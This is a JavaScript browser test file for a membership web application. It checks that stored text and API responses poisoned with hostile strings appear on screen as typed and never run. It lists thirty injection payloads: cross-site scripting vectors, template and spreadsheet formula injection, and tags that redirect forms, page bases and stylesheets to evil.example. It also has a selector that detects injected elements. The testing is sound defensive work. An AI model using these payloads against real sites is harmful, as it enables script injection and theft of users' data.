// Hostile text: nothing of it runs, all of it is shown as typed. Stored in real rows and read back; and put by the browser in
// place of every free text of every answer, on every screen of the federation and of a structure.
import { equal, holds, member } from "../visitor.mjs";
import { routesOf } from "../routes.mjs";

const PAYLOADS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  "{{7*7}}",
  "${7*7}",
  "' onmouseover='alert(1)",
  "</textarea><script>alert(1)</script>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "&lt;b&gt;gras&lt;/b&gt;",
  "<b>gras</b> &amp; %00 %3Cscript%3E",
  "a\u0300\u0301\u0302\u0303",
  "=cmd|' /C calc'!A0",
  "<style>*{display:none}</style>",
  "<base href=//evil.example>",
  "<a href=javascript:alert(1)>x</a>",
  "</title><script>alert(1)</script>",
  "<math><mtext></mtext><mglyph><svg><mtext><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<form action=//evil.example><input name=key>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<object data=//evil.example></object>",
  "<!--<img src=--><img src=x onerror=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<x contenteditable onblur=alert(1)>x</x>",
  "?lit$123456789$ <!--?lit$123456789$-->",
  "__proto__",
  "]]><![CDATA[<script>alert(1)</script>",
  "\u202egnisrever \u202c",
];

/** What would be in the page, had a text become markup. */
const BORN =
  "img[src=x], iframe, object, base, meta[http-equiv], script:not([src]), style, math, animate, [onerror], [onload], [ontoggle], [onmouseover], [onblur], a[href^='javascript'], a[href*='evil'], form[action*='evil'], link[href*='evil']";

async function watched(visit, options) {
  const visitor = await visit(options);
  visitor.dialogs = 0;
  visitor.page.on("dialog", (dialog) => {
    visitor.dialogs++;
    dialog.dismiss();
  });
  return visitor;
}

const born = (visitor) =>
  visitor.page.evaluate(
    (selector) => [...document.querySelectorAll(selector)].map((one) => one.outerHTML.slice(0, 100)),
    BORN,
  );

/** Four texts of a structure at a time, on its sheet, in its form, in the list and in the search. */
export async function w16_stored_text(visit) {
  equal(new Set(PAYLOADS).size, 30, "payloads");
  const visitor = await watched(visit, { as: "NATIONAL" });
  // What the service keeps as it came: the order of letters cannot be turned there.
  const kept = PAYLOADS.filter((text) => !/\u202e/.test(text));
  for (let at = 0; at < kept.length; at += 4) {
    const texts = [0, 1, 2, 3].map((step) => kept[(at + step) % kept.length]);
    const [legal, brand, description, address] = texts;
    const { data } = await member({ legal_name: legal, brand, description, address });
    await visitor.go(`#/structures/${data.id}`);
    const text = await visitor.text();
    for (const payload of texts) holds(text.includes(payload), `${payload} is not shown as typed`);
    await visitor.go(`#/structures/${data.id}/modifier`);
    const typed = await visitor.page.evaluate(() =>
      [...document.querySelectorAll("main input, main textarea")].map((one) => one.value),
    );
    for (const payload of texts) holds(typed.includes(payload), `${payload} is not in its field`);
    await visitor.go(`#/structures?q=${encodeURIComponent(legal)}`);
    await visitor.go(`#/recherche?q=${encodeURIComponent(legal)}`);
    equal(await born(visitor), [], "elements made from text");
  }
  equal(visitor.dialogs, 0, "texts that were run");
}

const FREE =
  /(^|_)(name|title|label|description|comment|comments|reason|place|address|subject|note|notes|text|brand|summary|detail|function|remark|object|payer|sigle)$/;
const CODE = /^([A-Z0-9_]+|\d{4}-\d\d.*|[0-9a-f]{8}-.*|\/v1\/.*)$/;

/** Every free text of an answer replaced, one payload after the other. */
function poisoned(value, key, next) {
  if (Array.isArray(value)) return value.map((one) => poisoned(one, key, next));
  if (value !== null && typeof value === "object")
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poisoned(one, name, next)]));
  return typeof value === "string" && FREE.test(key) && !CODE.test(value) ? next() : value;
}

async function poison(visitor) {
  let count = 0;
  const next = () => PAYLOADS[count++ % PAYLOADS.length];
  await visitor.page.route(/\/v1\/(?!openapi|token|session)/, async (route) => {
    if (route.request().method() !== "GET") return route.continue();
    const answer = await route.fetch();
    if (!/^application\/json/.test(answer.headers()["content-type"] ?? "")) return route.fulfill({ response: answer });
    return route.fulfill({ response: answer, json: poisoned(await answer.json(), "", next) });
  });
  return () => count;
}

const shownText = (visitor) =>
  visitor.page.evaluate(() =>
    [
      document.querySelector("main").textContent,
      ...[...document.querySelectorAll("main input, main textarea")].map((one) => one.value),
    ].join("\n"),
  );

async function everyScreen(visit, as) {
  const visitor = await watched(visit, { as }),
    told = [],
    seen = new Set(),
    hashes = await routesOf(visitor, as);
  const given = await poison(visitor);
  let screens = 0;
  try {
    for (const hash of hashes) {
      await visitor.go(hash);
      const text = await shownText(visitor),
        here = PAYLOADS.filter((payload) => text.includes(payload));
      here.forEach((payload) => seen.add(payload));
      if (here.length) screens++;
      told.push(...(await born(visitor)).map((one) => `${hash}: ${one}`));
    }
  } finally {
    await visitor.page.unrouteAll({ behavior: "ignoreErrors" });
  }
  console.error(`${as}: ${given()} hostile texts, shown on ${screens} of ${hashes.length} screens`);
  holds(!told.length, told.join("\n"));
  equal(visitor.dialogs, 0, "texts that were run");
  holds(screens > hashes.length / 4, `texts are shown on ${screens} of ${hashes.length} screens only`);
  equal(
    PAYLOADS.filter((payload) => !seen.has(payload)),
    [],
    "payloads that no screen shows as typed",
  );
}

export const w16_every_screen_of_the_federation = (visit) => everyScreen(visit, "NATIONAL");
export const w16_every_screen_of_a_structure = (visit) => everyScreen(visit, "STRUCTURE");
for (const bar of [w16_every_screen_of_the_federation, w16_every_screen_of_a_structure]) bar.seconds = 170;
